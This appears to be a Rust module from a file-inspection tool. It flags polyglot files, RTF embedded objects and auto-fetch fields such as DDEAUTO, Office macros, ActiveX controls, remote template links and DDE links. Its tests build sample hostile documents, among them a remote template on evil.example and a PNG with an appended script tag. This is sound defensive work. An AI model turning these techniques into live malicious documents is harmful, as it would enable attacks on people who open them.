//! What a file would do by itself in the hands of the program that it is made for, what it would fetch from elsewhere,
//! and what else it is besides what it says: macros, controls, linked parts, two kinds in one. Nothing of that happens
//! here; a person who opens the file should know. Looked for after a file of any kind was read, in names and marks alone.
//!
//! What only the reader of a kind can tell (scripts of a pdf or a page) is told there.

use memchr::memmem;

use crate::domain::Place;

use super::draft::Draft;
use super::opc::Parts;
use super::{Sample, xml};

/// Raised when it finds more: with the readers' versions it says what an extract is made by.
pub(super) const ID: &str = "watch/1";

/// Lists of relationships of one package that are looked at, and links that are named.
const MAX_LISTS: usize = 500;
const MAX_NAMED: usize = 5;

pub(super) fn look(sample: &Sample<'_>, media_type: &str, draft: &mut Draft<'_>) {
    second_kind(sample.bytes, media_type, draft);
    match media_type {
        "application/rtf" => rich_text(sample.bytes, draft),
        "application/zip" => {}
        _ => package(sample, draft),
    }
}

/// A file that other programs take for something else.
fn second_kind(bytes: &[u8], media_type: &str, draft: &mut Draft<'_>) {
    let mut say = |what: &str| {
        let detail =
            format!("the file is also {what}: other programs may show or run other content than is shown here");
        draft.finding("second_kind", Place::Whole, detail);
    };
    if !bytes.starts_with(b"PK") && ends_as_zip(bytes) {
        say("a zip archive");
    }
    if media_type != "application/pdf" && !bytes.starts_with(b"PK") {
        let head = bytes.get(..bytes.len().min(1024)).unwrap_or(bytes);
        let whole = [&b"endobj"[..], b"startxref"].iter().all(|mark| memmem::find(bytes, mark).is_some());
        if memmem::find(head, b"%PDF-").is_some() && whole {
            say("a pdf");
        }
    }
    let picture = media_type.starts_with("image/") && media_type != "image/svg+xml";
    if picture || media_type.starts_with("audio/") || media_type.starts_with("video/") {
        if holds_tag(bytes) {
            say("a web page or a script");
        } else if bytes.starts_with(b"GIF8") && matches!(bytes.get(6..8), Some(b"/*" | [b'=', _])) {
            // The width of the picture is a comment's beginning, and the rest is behind its end.
            say("a script");
        }
    }
}

/// An archive's end stands at the end of the file, to the byte.
fn ends_as_zip(bytes: &[u8]) -> bool {
    let from = bytes.len().saturating_sub((1 << 16) + 22);
    let tail = bytes.get(from..).unwrap_or_default();
    memmem::rfind_iter(tail, b"PK\x05\x06").any(|at| {
        let number =
            |at: usize| tail.get(at..at + 2).map_or(0, |two| usize::from(u16::from_le_bytes([two[0], two[1]])));
        number(at + 10) > 0 && at + 22 + number(at + 20) == tail.len()
    })
}

fn holds_tag(bytes: &[u8]) -> bool {
    const TAGS: [&[u8]; 4] = [b"script", b"html", b"iframe", b"?php"];
    memchr::memchr_iter(b'<', bytes).any(|at| {
        let rest = bytes.get(at + 1..).unwrap_or_default();
        let begins = |tag: &[u8]| rest.get(..tag.len()).is_some_and(|start| start.eq_ignore_ascii_case(tag));
        let ends = |tag: &[u8]| rest.get(tag.len()).is_none_or(|next| !next.is_ascii_alphanumeric());
        TAGS.iter().any(|tag| begins(tag) && ends(tag))
    })
}

/// Objects and links of a rich text, by their control words.
fn rich_text(bytes: &[u8], draft: &mut Draft<'_>) {
    let any = |words: &[&'static str]| -> Option<&'static str> {
        words.iter().copied().find(|word| memmem::find(bytes, word.as_bytes()).is_some())
    };
    if any(&["\\objdata", "\\objemb", "\\objocx"]).is_some() {
        let detail = "the file holds objects of other programs, which are not opened";
        draft.finding("embedded_object", Place::Whole, detail);
    }
    if let Some(word) =
        any(&["\\objautlink", "\\objupdate", "INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "\\*\\template"])
    {
        let detail = format!("it would fetch something from outside when it is opened ({word}); nothing is fetched");
        draft.finding("external_links", Place::Whole, detail);
    }
}

/// What the parts of an office package say of themselves by their names.
fn package(sample: &Sample<'_>, draft: &mut Draft<'_>) {
    let Some(names) = sample.entries() else { return };
    let names: Vec<String> = names.iter().map(|name| name.to_ascii_lowercase().replace('\\', "/")).collect();
    let any = |is: &dyn Fn(&str) -> bool| names.iter().any(|name| is(name));
    let macros = any(&|name| {
        name.ends_with("vbaproject.bin")
            || name.starts_with("xl/macrosheets/")
            || ((name.starts_with("basic/") || name.starts_with("scripts/")) && !name.ends_with('/'))
    });
    if macros && !draft.has_finding("macro") {
        draft.finding("macro", Place::Whole, "the file holds macros; they are not shown and not run");
    }
    if any(&|name| name.contains("/activex/")) {
        draft.finding("active_content", Place::Whole, "the file holds controls (ActiveX), which are not run");
    }
    if any(&|name| name == "[content_types].xml") {
        links(sample, &names, draft);
    }
}

/// Parts of an Office file that lie elsewhere: a template, a picture, an object. Links that a reader follows by a click
/// are no such thing.
fn links(sample: &Sample<'_>, names: &[String], draft: &mut Draft<'_>) {
    let Ok(mut parts) = Parts::open(sample.bytes, draft.limits) else { return };
    let mut found: Vec<String> = Vec::new();
    let mut exchange = false;
    for name in names.iter().filter(|name| name.ends_with(".rels")).take(MAX_LISTS) {
        let Ok(text) = parts.text(name) else { continue };
        // Most have none.
        if !text.contains("External") {
            continue;
        }
        for relation in xml::parse(&text, 16).root.children_named("Relationship") {
            let kind = relation.attribute("Type").unwrap_or_default().rsplit('/').next().unwrap_or_default().to_owned();
            let outside = relation.attribute("TargetMode").as_deref() == Some("External");
            if !outside || kind == "hyperlink" || found.len() > 100 {
                continue;
            }
            let target: String = relation.attribute("Target").unwrap_or_default().chars().take(200).collect();
            found.push(format!("{kind} {target}"));
        }
    }
    for name in
        names.iter().filter(|name| name.starts_with("xl/externallinks/") && name.ends_with(".xml")).take(MAX_LISTS)
    {
        exchange |= parts.text(name).is_ok_and(|text| text.contains("ddeLink"));
    }
    if exchange {
        let detail = "cells would ask another program for their values (DDE), which can start it; nothing is asked";
        draft.finding("dde_link", Place::Whole, detail);
    }
    found.sort();
    found.dedup();
    if !found.is_empty() && !draft.has_finding("external_links") {
        let more = found.len().saturating_sub(MAX_NAMED);
        found.truncate(MAX_NAMED);
        let more = if more > 0 { format!(" and {more} more") } else { String::new() };
        let detail = format!("parts of it lie outside the file and are not fetched: {}{more}", found.join(", "));
        draft.finding("external_links", Place::Whole, detail);
    }
}

#[cfg(test)]
mod tests {
    use crate::document::testing::{docx, read_one, zip};

    fn codes(name: &str, bytes: &[u8]) -> Vec<String> {
        read_one(name, bytes).findings.into_iter().map(|finding| finding.code).collect()
    }

    #[test]
    fn a_package_that_acts_or_fetches_says_so() {
        let body = "<w:p><w:r><w:t>memo</w:t></w:r></w:p>";
        let hidden = docx(body, &[("word/vbaProject.bin", "x"), ("word/activeX/activeX1.xml", "<x/>")], "");
        assert_eq!(codes("a.docx", &hidden), ["macro", "active_content"]);
        let template = r#"<Relationships><Relationship Id="a" Type="x/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/>
            <Relationship Id="b" Type="x/hyperlink" TargetMode="External" Target="http://fine.example/"/></Relationships>"#;
        let file = read_one("a.docx", &docx(body, &[("word/_rels/settings.xml.rels", template)], ""));
        assert_eq!(file.findings[0].code, "external_links");
        assert!(
            file.findings[0].detail.ends_with("attachedTemplate http://evil.example/t.dotm"),
            "{:?}",
            file.findings
        );
        assert_eq!(codes("a.docx", &docx(body, &[], "")), [""; 0]);
    }

    #[test]
    fn two_kinds_in_one_file_are_told() {
        let mut page = std::io::Cursor::new(Vec::new());
        image::DynamicImage::new_luma8(1, 1).write_to(&mut page, image::ImageFormat::Png).unwrap();
        let with = [page.get_ref().as_slice(), b"<SCRIPT src=x>"].concat();
        assert!(codes("a.png", &with).contains(&"second_kind".to_owned()), "{:?}", read_one("a.png", &with));
        let appended = [b"A note.\n".as_slice(), &zip(&[("a.txt", b"x")])].concat();
        let file = read_one("a.rtf", &[b"{\\rtf1 a}", appended.as_slice()].concat());
        assert!(file.findings.iter().any(|f| f.detail.contains("zip archive")), "{:?}", file.findings);
        assert_eq!(
            codes("a.rtf", b"{\\rtf1 {\\object\\objupdate{\\*\\objdata 00}}text}"),
            ["embedded_object", "external_links"]
        );
        assert_eq!(codes("a.md", b"In the header stands `%PDF-1.7`, and an endobj later."), [""; 0]);
    }
}
